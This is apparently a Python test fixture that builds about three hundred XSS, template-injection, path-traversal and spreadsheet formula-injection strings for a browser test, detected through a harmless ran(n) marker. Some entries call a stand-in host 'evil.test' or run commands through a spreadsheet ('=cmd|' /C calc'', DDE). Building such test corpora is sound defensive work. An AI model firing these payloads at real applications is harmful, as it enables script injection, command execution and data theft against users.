"""Some three hundred texts that want to be more than text when a page, a script, a sheet or a template meets them.

Each that could run says so by calling `ran(17)` with a number of its own; a browser test listens for that.
"""

from itertools import chain, product

CALL = "ran({0})"
LONGEST = 60  # what the shortest of our text fields takes
# Where the call stands in a text; {} is the call.
ELEMENTS = (
    "<script>{}</script>", "<SCRIPT>{}</sCrIpT>", "<script\n>{}</script >", "</script><script>{}</script>",
    "<script>{}//", "<svg><script>{}</script></svg>", "<svg><script>{}<p>", "<math><script>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "</noscript><script>{}</script>",
    "</select><script>{}</script>", "<template><script>{}</script>", "<<script>{}</script>", "<script/x>{}</script>",
    "<script\t>{}</script>", "<script type=module>{}</script>", "</option></select><script>{}</script>",
    "<body><script>{}</script>",
)  # fmt: skip
TAGS_AND_EVENTS = (
    ("img src=x", "onerror"), ("img src", "oNeRrOr"), ("svg", "onload"), ("svg/", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("input autofocus", "onfocus"), ("p tabindex=0 autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("video><source", "onerror"), ("iframe", "onload"), ("object data=x", "onerror"), ("embed src=x", "onload"),
    ("marquee", "onstart"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("link rel=x href=x", "onerror"), ("style", "onload"), ("svg><animate", "onbegin"), ("svg><set", "onbegin"),
    ("b", "onpointerenter"), ("a href=#", "onclick"), ("form", "onsubmit"), ("math href=x", "onclick"),
    ("br", "onanimationstart"), ("x contenteditable autofocus", "onfocus"),
)  # fmt: skip
HANDLERS = (
    "<{tag} {event}='{call}'>", '"><{tag} {event}={call}>', "<{tag}\n{event}\t= {call} //", "<{tag}/{event}={call}>",
    '</p><{tag} {event}="{call}"',
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="{}', "' onmouseover='{}", '" autofocus onfocus="{}', "' autofocus onfocus='{}", '"onfocus={} x="',
    "` onmouseover=`{}", '" style="x" onclick="{}', '">{}', "'>{}", '" x="" onload="{}', '\\" onfocus=\\"{}',
    "x onmouseover={} ", '"/autofocus/onfocus="{}', "&quot; onfocus=&quot;{}", "&#34; onfocus=&#34;{}",
    "\u201d onfocus=\u201d{}",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "javascript://%0a{}", "data:text/html,<script>{}</script>",
    "vbscript:{}", "//evil.test/{}", "\\\\evil.test\\{}", "https:evil.test/{}", "/\\evil.test/{}", "?q=<script>{}",
    "../../../etc/passwd{}", "..\\..\\{}", "#{}", "%6aavascript:{}",
)  # fmt: skip
TEMPLATES = (
    "{{{{{}}}}}", "{{% {} %}}", "{{# {} #}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "<?php {} ?>", "{{{{7*7}}}}",
    "{{{{ request.user }}}}", "{{% include 'x' %}}", "{{% load i18n %}}", "[[{}]]", "@{{{}}}",
    "{{{{constructor.constructor('{}')()}}}}", "%({})s", "{{0.__class__}}", "{{{{x|safe}}}}", "<c-chip>{}</c-chip>",
    "{{% csrf_token %}}", "$(({}))",
)  # fmt: skip
STRINGS = (
    '";{}//', "';{}//", "\\';{}//", '\\";{}//', "`;{}//", "${{{}}}`", '"}};{}//', "'}});{}//", "</script>{}",
    "\u2028{}//", "\u2029{}//", '","x":{},"', '"]}}{}', "*/{}/*", "-{}-", "'+{}+'", '"+{}+"', "<!--{}-->",
    "\\u003cscript\\u003e{}", "\\x3cscript\\x3e{}",
)  # fmt: skip
STYLES = (
    "<style>*{{background:url(javascript:{})}}</style>", "<style>@import'//evil.test'</style>",
    "</style><style>*{{}}</style>", "expression({})", "x:expression({})", "url(javascript:{})", "}}*{{display:none}}",
    "<link rel=stylesheet href=//evil.test>", "<p style=position:fixed;inset:0>x", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;//evil.test>", "<form action=//evil.test><input>",
    "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}'>", "<object data=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<svg><a href=javascript:{}>x", "<embed src=javascript:{}>",
    "<button formaction=javascript:{}>x", "<math><a xlink:href=javascript:{}>x", "<div hx-get=/x hx-trigger=load>",
    "<b hx-on::load={}>", "<p data-hide-after=0 x={}>",
)  # fmt: skip
STRANGE = (
    "\ufeff<script>{}", "＜script＞{}＜/script＞", "‹script›{}", "\u202e<script>{}", "\u200b<script>{}",
    "<scr\u0000ipt>{}".replace("\0","\u200c"), "<\u0131mg onerror={}>", "<\u017fcript>{}", "%3Cscript%3E{}",
    "&lt;script&gt;{}", "&#60;script&#62;{}", "&#x3c;script>{}", "&amp;lt;script>{}", "+ADw-script+AD4-{}",
    "\u00bc\u00be<script>{}", "𠮷<script>{}", "\u202eגב{}", "\u2066{}\u2069", "a\u0301\u0302{}", "<a\u00a0onclick={}>",
)  # fmt: skip
SHEETS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.test","x")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u2212 1+1", '=IMPORTXML("//evil.test")', '=DDE("cmd";"x")',
    ";=1+1", ",=1+1", '"=1+1', "'=1+1", "\n=1+1", "%=1", "|=1", "=\u200b1+1",
)  # fmt: skip


def hostile_texts() -> list[str]:
    """All of them, each different from all others, none longer than our shortest text field takes."""
    handlers = (
        shape.format(tag=tag, event=event, call="{}") for shape, (tag, event) in product(HANDLERS, TAGS_AND_EVENTS)
    )
    calling = chain(ELEMENTS, handlers, ATTRIBUTES, ADDRESSES, TEMPLATES, STRINGS, STYLES, STRANGE)
    texts = [text.format(CALL.format(number)) for number, text in enumerate(calling)]
    return [text for text in dict.fromkeys([*texts, *SHEETS]) if len(text) <= LONGEST]
